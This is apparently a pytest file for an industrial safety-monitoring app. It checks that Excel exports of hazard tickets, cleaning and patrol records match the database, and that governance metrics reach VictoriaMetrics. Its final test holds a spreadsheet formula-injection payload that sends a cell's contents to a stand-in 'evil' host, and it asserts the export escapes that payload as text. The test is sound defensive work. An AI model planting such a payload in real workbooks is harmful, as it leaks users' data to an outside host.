"""The Excel exports (ehswatch/governance/exports.py) open with openpyxl and hold the
rows the database holds, for the period and zone asked."""

from __future__ import annotations

import io
import time
from pathlib import Path
from typing import Any

from openpyxl import load_workbook

from ehswatch.governance.desk import Photo
from tests.aio import run
from tests.test_cleaning import ITEMS, LEADER, at, clock_at
from tests.test_hazards import PNG, Clock, rig
from tests.test_patrols import PATROLLER, good, patrol_plant
from tests.test_responsibility import with_people


def rows_of(data: bytes) -> tuple[str, list[str], list[tuple[Any, ...]]]:
    sheet = load_workbook(io.BytesIO(data), read_only=True).worksheets[0]
    note, header, *rows = list(sheet.iter_rows(values_only=True))
    return str(note[0]), [str(h) for h in header], rows


def test_each_export_holds_the_rows_the_database_holds_for_its_period_and_zone(
    tmp_path: Path,
) -> None:
    async def main() -> None:
        clock = clock_at("2027-01-15 19:50")
        async with rig(tmp_path, patrol_plant(tmp_path), clock) as r:
            await with_people(r)
            gov = r.desk.governance
            await r.read({"D-1": 25.0, "D-6": 12.0})  # a B ticket in each zone… and a C
            await gov.record_cleaning(
                "polishing-1", LEADER, items_done=ITEMS, residue_mm=1.4, photo=Photo(content=PNG)
            )
            await gov.record_patrol(
                "cp-mill", PATROLLER, values=good(), photos={"view": Photo(content=PNG)}
            )
            clock.now = at("2027-01-16 12:00")
            await r.desk.run_watch()
            since, until = at("2027-01-01 00:00"), at("2027-02-01 00:00")
            tickets = list(await r.desk.tickets())

            note, header, rows = rows_of(await gov.export("ledger", since=since, until=until))
            assert "隐患台账" in note and "Asia/Shanghai" in note
            assert header[0] == "编号 no." and len(header) == len(rows[0])
            assert sorted(row[0] for row in rows) == sorted(t.id or 0 for t in tickets)
            by_id = {row[0]: row for row in rows}
            for t in tickets:
                assert by_id[t.id][1] == t.zone and by_id[t.id][4] == t.grade
                assert by_id[t.id][8] == t.owner
            _, _, one_zone = rows_of(
                await gov.export("ledger", since=since, until=until, zone="polishing-2")
            )
            assert {row[1] for row in one_zone} == {"polishing-2"}
            assert len(one_zone) == sum(t.zone == "polishing-2" for t in tickets)

            _, header, rows = rows_of(await gov.export("cleaning", since=since, until=until))
            (row,) = rows
            assert row[:2] == ("polishing-1", "day") and row[6] == 1.4 and row[9] == "否 no"
            assert row[10] == (await gov.cleaning_records())[0]["ticket_id"]

            _, _, rows = rows_of(await gov.export("patrols", since=since, until=until))
            assert [(row[0], row[3], row[5]) for row in rows] == [("cp-mill", "li.wei", "是 yes")]

            _, _, empty = rows_of(
                await gov.export("patrols", since=at("2026-01-01 00:00"), until=since)
            )
            assert empty == []

    run(main())


def test_the_governance_snapshot_reaches_victoriametrics_through_the_influx_write_api(
    tmp_path: Path,
) -> None:
    """The desk part's `governance` and `shift_figure` lines, written to a real server
    behind the InfluxDB v2 write API, read back as the series Grafana's queries name."""
    from ehswatch.config import InfluxSettings
    from ehswatch.governance.board import store_figures
    from ehswatch.governance.influx import GovernanceExport
    from tests.servers import VictoriaMetrics

    async def main(url: str) -> bool:
        clock = Clock()
        clock.now = time.time()  # the server keeps points near its own now
        async with rig(tmp_path, patrol_plant(tmp_path), clock) as r:
            await with_people(r)
            await r.read({"D-1": 25.0})
            closed = {
                "shift": "day",
                "start": clock.now - 13 * 3600,
                "end": clock.now - 3600,
                "covered_s": 43200.0,
                "rows": [
                    {"zone": "polishing-1", "sensor_type": "dust", "max": 25.0, "mean": 3.5,
                     "above_warning_s": 30.0, "above_alarm_s": 12.0, "above_interlock_s": 0.0}
                ],
            }  # fmt: skip
            assert await store_figures(r.db, {"shift_figures": {"closed": [closed]}}) == 1
            assert await store_figures(r.db, {"shift_figures": {"closed": [closed]}}) == 0
            settings = InfluxSettings(url=url, token="t", org="ehs", bucket="telemetry")
            return await GovernanceExport(r.desk.governance, settings).write_once()

    with VictoriaMetrics(tmp_path) as vm:
        assert run(main(vm.url))
        opened = vm.export('governance_open_b{zone="polishing-1"}')
        peaks = vm.export('shift_figure_max{zone="polishing-1",type="dust",shift="day"}')
    assert opened and opened[0]["values"] == [1]
    assert peaks and peaks[0]["values"] == [25.0]


def test_what_a_person_typed_is_text_in_the_workbook_never_a_formula(tmp_path: Path) -> None:
    async def main() -> bytes:
        clock = clock_at("2027-01-15 19:50")
        async with rig(tmp_path, patrol_plant(tmp_path), clock) as r:
            await with_people(r)
            await r.desk.governance.record_cleaning(
                "polishing-1", LEADER, items_done=ITEMS, residue_mm=0.1,
                photo=Photo(content=PNG), comment='=HYPERLINK("http://evil/?"&A1)\x01',
            )  # fmt: skip
            return await r.desk.governance.export(
                "cleaning", since=at("2027-01-01 00:00"), until=at("2027-02-01 00:00")
            )

    data = run(main())
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    cell = sheet.cell(row=3, column=12)
    assert cell.data_type == "s" and cell.value == '\'=HYPERLINK("http://evil/?"&A1)'
